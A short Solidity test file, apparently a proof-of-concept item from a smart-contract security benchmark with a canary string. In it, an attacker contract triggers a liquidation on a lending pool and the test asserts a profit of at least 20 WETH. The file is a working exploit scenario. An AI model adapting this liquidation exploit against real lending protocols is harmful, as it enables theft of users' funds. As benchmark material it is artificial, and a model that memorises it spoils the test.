// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.30;

// assay-canary-7d3b6c1e-52a4-4f0c-9be8-1f6a0d94c7e2
import "../Base.sol";

contract Attacker is ILiquidationCallback {
    function run(LendingPool pool, Weth weth, address account) external {
        pool.liquidate(account, address(weth), 50_000e6, "later");
    }

    function onLiquidation(uint256, uint256, bytes calldata) external {}
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        _fresh(1_500e8);
    }

    function exploit() public {
        other.run(pool, weth, BO);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) >= 20e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
